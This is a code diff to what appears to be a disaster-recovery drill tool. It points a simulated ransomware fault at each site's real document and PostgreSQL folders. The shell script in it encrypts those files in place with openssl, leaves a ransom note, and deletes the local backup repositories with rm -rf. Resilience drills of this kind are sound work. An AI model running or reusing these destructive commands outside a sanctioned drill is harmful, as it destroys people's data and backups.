@@ -28,6 +28,7 @@ from typing import Any, Protocol
 
 from lpse_ops import config
 from lpse_ops.actions.operation import OperationRefused
+from lpse_ops.site_facts import site_facts
 
 DESCRIPTIONS: dict[str, str] = {
     "ransomware": "offsite snapshots forgotten and pruned with the site's own keys, documents and PostgreSQL data "
@@ -50,9 +51,8 @@ echo "offsite snapshots forgotten: $(echo $ids | wc -w)"
 ENCRYPT = r"""
 set -e
 enc() { openssl enc -aes-256-cbc -pbkdf2 -pass pass:drill-ransom -in "$1" -out "$1.locked" && mv "$1.locked" "$1"; }
-docs=/var/lib/spse/documents
 find "$docs" -type f | while read -r f; do enc "$f"; done
-find /var/lib/postgresql/15/main/base -type f -name '[0-9]*' | while read -r f; do enc "$f"; done
+find "$pgdata/base" -type f -name '[0-9]*' | while read -r f; do enc "$f"; done
 echo 'Your files are encrypted (an lpse-ops drill)' > "$docs/README-RANSOM.txt"
 rm -rf /var/lib/pgbackrest/* /var/lib/lpse-backup/restic
 echo "encrypted: $(find "$docs" -type f | wc -l) documents"
@@ -72,7 +72,9 @@ def ransomware(site: str, shell: Shell, hostvars: dict[str, Any]) -> Injected:
     """Attack the offsite copy with the site's keys, encrypt the site's files, delete its local repositories."""
     fault_at = datetime.now(UTC)
     attacked = shell.run(OFFSITE_ATTACK, timeout=900).strip()
-    encrypted = shell.run(ENCRYPT, timeout=1800).strip()
+    facts = site_facts(hostvars)  # this site's folders, not the lab's defaults
+    where = f"docs={shlex.quote(facts.spse_docs_dir)}\npgdata={shlex.quote(facts.pg_data_dir)}\n"
+    encrypted = shell.run(where + ENCRYPT, timeout=1800).strip()
     as_of = fault_at.replace(microsecond=0) - timedelta(seconds=1)
     return fault_at, {"offsite_as_of": as_of.strftime("%Y-%m-%dT%H:%M:%SZ")}, f"{attacked}; {encrypted}"
 
